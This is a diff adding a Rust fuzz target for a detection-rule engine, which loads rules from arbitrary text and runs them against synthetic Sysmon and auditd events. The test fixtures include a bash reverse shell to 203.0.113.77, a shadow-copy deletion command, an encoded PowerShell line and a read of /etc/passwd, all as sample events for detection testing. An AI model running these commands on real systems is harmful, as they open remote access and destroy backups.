@@ -1,0 +1,94 @@
+//! Rules from any text: loaded or refused with a reason, compiled for a few kinds, scanned.
+
+use std::sync::LazyLock;
+
+use detect::{Engine, Placeholders, load};
+use model::event::{Kind, Place};
+use sources::{Batch, Builder, Value};
+
+use crate::way::{agree, catalogue};
+
+/// A record: its fields in order; a name may repeat.
+type Fields = &'static [(&'static str, &'static str)];
+
+/// Starts of processes.
+const STARTS: [Fields; 5] = [
+    &[("EventID", "1"), ("Image", "C:\\Windows\\System32\\cmd.exe"), ("CommandLine", "cmd.exe /c whoami")],
+    &[
+        ("Image", "C:\\Windows\\System32\\vssadmin.exe"),
+        ("CommandLine", "vssadmin delete shadows -all –quiet"),
+    ],
+    &[
+        ("CommandLine", "powershell -enc aABlAGwAbABvAA=="),
+        ("ParentImage", "C:\\a.exe"),
+        ("User", "Ä\\größe"),
+    ],
+    &[("Image", ""), ("CommandLine", "*?\\"), ("Hashes", "MD5=AB"), ("Hashes", "SHA1=CD")],
+    &[("DestinationIp", "192.0.2.7"), ("DestinationPort", "443"), ("UtcTime", "2026-03-02 08:00:01.123")],
+];
+
+/// Records of two audit events.
+const AUDIT: [&[Fields]; 2] = [
+    &[
+        &[("type", "SYSCALL"), ("syscall", "59"), ("uid", "0"), ("exe", "/usr/bin/bash")],
+        &[
+            ("type", "EXECVE"),
+            ("a0", "bash"),
+            ("a1", "-c"),
+            ("a2", "bash -i >& /dev/tcp/203.0.113.77/443 0>&1"),
+        ],
+        &[("type", "PATH"), ("name", "/etc/passwd"), ("nametype", "NORMAL")],
+    ],
+    &[&[("type", "USER_CMD"), ("msg", "op=PAM:session"), ("key", "(null)")]],
+];
+
+/// Runs one text.
+pub fn run(bytes: &[u8]) {
+    let Ok(text) = str::from_utf8(bytes) else { return };
+    let placeholders =
+        Placeholders::from([("words".to_owned(), vec!["whoami".to_owned(), "bash".to_owned()])]);
+    let mut rules = Vec::new();
+    for loaded in load("rules.yml", text, &placeholders) {
+        match loaded {
+            Ok(rule) => rules.push(rule),
+            Err(refusal) => {
+                assert!(!refusal.reason.is_empty(), "a refusal without a reason");
+                let lines = text.split('\n').count();
+                assert!((1..=lines).contains(&refusal.line), "line {} of {lines}", refusal.line);
+            }
+        }
+    }
+    if rules.is_empty() {
+        return;
+    }
+    static BATCHES: LazyLock<Vec<Batch>> = LazyLock::new(batches);
+    let engine = Engine::new(rules, catalogue());
+    BATCHES.iter().for_each(|batch| agree(&engine, batch));
+}
+
+fn batches() -> Vec<Batch> {
+    let mut builder = Builder::new(catalogue());
+    let source = builder.source(&"events".into());
+    let place = |ordinal: usize| Place { ordinal: ordinal as u64, ..Place::default() };
+    for kind in [
+        Kind::new("windows", "Microsoft-Windows-Sysmon/Operational", Some(1)),
+        Kind::new("windows", "Security", Some(4688)),
+        Kind::new("", "", None),
+    ] {
+        for (number, fields) in STARTS.iter().enumerate() {
+            builder.begin(source, &kind, &place(number + 1));
+            fields.iter().for_each(|(name, value)| builder.field(name, Value::text(value)));
+        }
+    }
+    for (number, records) in AUDIT.iter().enumerate() {
+        builder.begin_grouped(source, &Kind::new("linux", "auditd", None), &place(number + 1));
+        for fields in *records {
+            builder.next_record();
+            fields.iter().for_each(|(name, value)| builder.field(name, Value::text(value)));
+        }
+    }
+    match builder.finish() {
+        Ok(batches) => batches,
+        Err(error) => panic!("the columns are not well formed: {error}"),
+    }
+}
